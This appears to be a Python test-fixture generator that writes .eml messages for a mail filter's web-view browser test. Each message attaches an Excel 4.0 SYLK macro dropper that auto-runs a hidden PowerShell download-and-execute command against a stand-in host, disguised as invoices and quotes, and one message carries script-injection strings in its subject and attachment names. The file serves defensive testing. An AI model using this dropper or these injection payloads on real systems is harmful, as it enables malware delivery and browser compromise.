#!/usr/bin/env python3
"""The messages of the web view's browser test, written as .eml files (CRLF)
for smtp_send.py --eml. Each carries a dropper the milter flags: an Excel 4.0
macro sheet in SYLK form (auto-open, EXEC of a downloader), named .xls as such
droppers are, alone or inside a ZIP.

  web_mail.py DIR
    DIR/payload.eml  from evil@attacker.emogate.test: the Subject carries
                     <script> and "onload= payloads both RFC 2047 encoded and
                     raw, the attachment names carry them too (one .xls, one
                     .zip holding an .xls)
    DIR/invoice1.eml, DIR/invoice2.eml
                     from tanaka@partner.emogate.test, Japanese subjects
                     (ISO-2022-JP encoded words), zipped dropper
    DIR/other.eml    from bob@other.emogate.test
Each has an X-Test-Id header named after its file. Standard library only.
"""
import base64
import io
import os
import sys
import zipfile

SCRIPT = "<script>window.__pwned=1</script>"
ONLOAD = '"onload=window.__pwned=1 x="'
SLK = ("ID;P\r\nC;X1;Y1;EEXEC(\"cmd /c powershell -w hidden -c iex (New-Object "
       "Net.WebClient).DownloadString('http://dl.example/s')\")\r\nC;X1;Y2;EHALT()\r\n"
       "NN;NAuto_open;ER1C1\r\nE\r\n").encode()


def word(text, charset="UTF-8"):
    """One RFC 2047 encoded word (B encoding)."""
    return "=?%s?B?%s?=" % (charset, base64.b64encode(text.encode(charset)).decode())


def rfc2231(name):
    """A filename*= parameter value (RFC 2231, UTF-8)."""
    safe = "".join(c if c.isalnum() or c in "-._" else "".join("%%%02X" % b for b in c.encode()) for c in name)
    return "UTF-8''" + safe


def zipped(member, data):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(member, data)
    return b.getvalue()


def part(name, mime, data):
    return ("--b1\r\nContent-Type: %s\r\nContent-Disposition: attachment; filename*=%s\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n"
            % (mime, rfc2231(name), base64.encodebytes(data).decode().replace("\n", "\r\n")))


def message(test_id, sender, to, subject, body, attachments):
    head = ("From: %s\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: <%s@web.emogate.test>\r\n"
            "X-Test-Id: %s\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" % (sender, ", ".join(to), subject, test_id, test_id))
    text = ("--b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n"
            % base64.encodebytes(body.encode()).decode().replace("\n", "\r\n"))
    return (head + text + "".join(part(*a) for a in attachments) + "--b1--\r\n").encode()


def main():
    d = sys.argv[1]
    xls = "application/vnd.ms-excel"
    mails = {
        # Subject decodes to: 請求書 <script>…</script> "onload=… x=" <script>…</script>
        # (the first two in an encoded word, the last raw).
        "payload": message("payload", "Mallory <evil@attacker.emogate.test>", ["carol@rcpt.emogate.test"],
                           "%s %s" % (word("請求書 %s %s" % (SCRIPT, ONLOAD)), SCRIPT),
                           "See the attached invoice %s\n" % SCRIPT,
                           [(SCRIPT + ".xls", xls, SLK),
                            (ONLOAD + ".zip", "application/zip", zipped(ONLOAD + ".xls", SLK))]),
        "invoice1": message("invoice1", "Tanaka <tanaka@partner.emogate.test>",
                            ["carol@rcpt.emogate.test", "dave@rcpt.emogate.test"],
                            word("請求書 2026年11月分", "ISO-2022-JP"), "請求書を送付いたします。\n",
                            [("seikyu-202611.zip", "application/zip", zipped("seikyu-202611.xls", SLK))]),
        "invoice2": message("invoice2", "Tanaka <tanaka@partner.emogate.test>", ["carol@rcpt.emogate.test"],
                            word("見積書の送付", "ISO-2022-JP"), "見積書を送付いたします。\n",
                            [("mitsumori.xls", xls, SLK)]),
        "other": message("other", "Bob <bob@other.emogate.test>", ["dave@rcpt.emogate.test"],
                         "Quarterly figures", "Figures attached.\n",
                         [("figures.zip", "application/zip", zipped("figures.xls", SLK))]),
    }
    for name, raw in mails.items():
        with open(os.path.join(d, name + ".eml"), "wb") as f:
            f.write(raw)


if __name__ == "__main__":
    main()
